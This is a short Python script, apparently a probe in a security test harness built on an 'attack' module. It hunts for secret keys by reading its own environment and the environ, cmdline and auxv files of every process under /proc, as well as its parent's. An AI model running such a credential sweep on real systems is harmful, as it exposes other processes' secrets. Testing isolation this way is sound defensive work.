# Looks for keys in its own environment, that of every process it sees, process 1 first, and in their command lines.

import os

from attack import done, look, read

look("own", lambda: b"\0".join(b"=".join(item) for item in os.environb.items()))
for pid in sorted(int(name) for name in os.listdir("/proc") if name.isdecimal()):
    for name in ("environ", "cmdline", "auxv", "task/1/environ"):
        look(f"/proc/{pid}/{name}", lambda path=f"/proc/{pid}/{name}": read(path))
look("parent", lambda: read(f"/proc/{os.getppid()}/environ"))
done()
